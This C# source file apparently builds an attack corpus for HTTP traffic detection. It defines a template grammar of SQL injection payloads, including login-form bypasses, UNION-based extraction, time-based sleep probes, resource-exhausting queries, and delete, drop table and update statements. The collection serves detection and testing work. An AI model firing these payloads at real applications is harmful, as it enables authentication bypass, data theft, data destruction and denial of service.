namespace Weir.Http.Corpus.Attacks;

/// <summary>Forms for logging in, and the short probes that come first.</summary>
/// <remarks>OWASP WSTG-INPV-05 (detection), CAPEC-66, CWE-89.</remarks>
internal static class SqliProbes
{
    public const string Text = """"
        ¶ ---- forms for logging in ----
        §loginform
        5× «lq»«or2»«ltrue»«lend»
        4× «lname»«lq»«comment»
        3× «lname»«lq»«or2»«ltrue»«lend»
        2× «lq»=«lq»
        2× «lq»«or2»«lq»«lq»=«lq»
        2× «lq»«or2»«ident»«␠like ¦ = ¦=»«lq»«%¦«word»»««lq»¦»«lend»
        2× «lname»«lq»)«¦)»«comment»
        «lq»=0«comment»
        «lq»«-¦*¦+¦&¦^¦|¦%»«lq»«¦«comment»»
        «lq»«or2»1«¦ limit 1»«comment»
        «lname»«lq» and 1=0 union all select '«word»','«hexdigit*32»'«comment»
        «lname»«lq» or 1=1 limit «#0-9»,1«comment»
        «lq»union select «cols»«comment»
        ffifdyop
        \«comment»
        or 1=1«comment»
        «lname»\
        «lq»«lq»«or2»«ltrue»«lend»
        «lname»' or 'x'='x'; «statement»--
        «lq»||«lq»
        §lq
        8× '
        3× "
        2× ')
        «")¦'))¦\'¦`¦''»
        §lname
        5× admin
        «administrator¦root¦user¦test¦«word»¦1¦sa¦guest»
        §or2
        4× ␠or␠
        3× ␠OR␠
        2× or
        2× ||
        «/**/or/**/¦ || ¦+or+¦%20or%20¦ oR ¦ xor ¦␉or␉¦ && ¦ and ¦)or(»
        §ltrue
        4× 1=1
        3× '1'='1
        2× '«$a:letter»'='«$a»
        2× '«$a:word»'='«$a»
        2× «$a:num»=«$a»
        "«$a:letter»"="«$a»
        ''='
        1
        true
        2>1
        '1'='1'
        '«$a:letter»'='«$a»'
        ('1'='1
        ('1')=('1
        1 like 1
        «ident» is not null
        'a' like 'a
        not 1=2
        1=1 or ''='
        '7659'='7659
        §lend
        5× «comment»
        4×
        2× ) «comment»
        ␠or '«letter»'='«letter»
        «')¦#¦/*¦)¦%00¦')--»

        ¶ ---- probes ----
        §wholeinjected
        select «col» from «table» where «ident» = '«lead» «boolean»«tailpart»
        select * from «table» where «ident»=«num»«tightor»«cond»«comment?»
        select * from «table» where «ident» = '«word»'«tightor»«cond»«comment?»
        select count(*) from «table» as t1,«table» as t2,«table» as t3«tightor»«cond»
        select case when «cond» then «num» else «num» end«¦ from «table»»
        select «scalarfn» from «table» where «cond»«¦ union «selectword» «cols»»
        select * from generate_series(1,«#1-9»000000)
        select (case when («cond») then «num» else (select «num» union select «num») end)
        select «ident» from «table» where «ident» like '%«word»%'«tightor»«cond»
        update «table» set «col»='«word»' where «ident»='«word»'«tightor»«cond»
        delete from «table» where «ident»=«num»«tightor»«cond»
        insert into «table»(«col»,«col») values('«word»',(«query1»))
        «query1» union «selectword» «cols» from «table»
        if «cond» «statement»
        call regexp_substring(repeat(«strexp»,«#1-9»00000000),null)
        «num»«tightor»«num»=(select count(*) from «table» as t1,«table» as t2)
        §tightor
        ␠or␠
        ␠and␠
        ␠OR␠
        ␠||␠
        §probe
        «phrase»'«orword»'«$p:letter»'='«$p»
        «phrase»" «orword» "«$p:num»"="«$p»
        «phrase»' «delete from¦drop table¦update¦insert into¦exec¦select * from» «table»«¦--¦;--»
        2× «word»'«space»«sqlop»«space»'«word»
        «letter»'«sqlop»'«letter»
        «'¦"»«sqlop»«'¦"»
        «num»«space»«sqlop»«space»«num»«¦--¦#»
        «num»;«call ¦exec »«letter»(@«word»,@«letter»)«¦--»
        1e«#1-9»«'¦ or 1=1¦ union select 1»
        «num»)«orword»(«num»=«num»
        3× «lq»«space»«orword»«space»«shortcond»«shortend»
        2× «num»«lq»«shortend»
        2× «lq»«shortop»«shortcond»«shortend»
        2× «word»«lq»«shortend»
        «lq»«lq»«shortend»
        «num»«shortop»«shortcond»«shortend»
        4× «lead» order by «#1-60»«comment?»
        3× «lead» group by «#1-30»«comment?»
        2× «num»«'¦"¦')¦")»«--¦#¦;--¦ --»
        2× «'¦"¦')¦'))¦\'»«;¦--¦#¦;--¦/*¦ -- -»
        2× «num» and «num»=«num»
        2× «num»' and '«num»'='«num»
        2× «word»' and «num»=«num»--
        «num»-«num»«--¦'¦ ¦#»
        «num»*«num»'«--¦»
        «num»'||'«num»
        «word»'||'«word»
        '«||¦+¦ »'«word»
        «word»'«+¦ »'«word»
        «''¦'"¦';¦'"`¦'`"(¦'"),.(¦)('"¦'"\()¦%27%22¦'"<>«rand»¦'«"»'»«rand»«comment?»
        «word»'"(),.
        «num») and («num»=«num»
        «num») or («num»=«num»
        «num»)) or (('x'))=(('x
        «num» having «num»=«num»--
        «num»;--
        1%27%20or%20%271
        «num»' --
        «num»/*!«#10000-60000» and 1=«#0-1»*/
        «word»%' and '%'='
        «word»%' and 1=1 and '%'='
        if(«num»=«num»,«num»,«num»)
        case when «cond» then «num» else «num» end
        (select «num»)
        (select(«num»)from(«table»)where(«cond»))
        «num»«/¦*¦+¦-»(select «num»)
        '+(select «num»)+'
        '||(select ''«¦ from dual»)||'
        «ident» and «num»=«num»
        -«#1-9999» «orword» «cond»
        ,(select «num» from «table»)
        @@«sysvar»
        convert(int,@@version)
        1;select pg_sleep(«#1-9»)
        sleep(«#1-30»)«#¦--¦»
        «sleep¦benchmark»(«#1-30»)/*' or sleep(«#1-9») or '" or sleep(«#1-9») or "*/
        """";
}
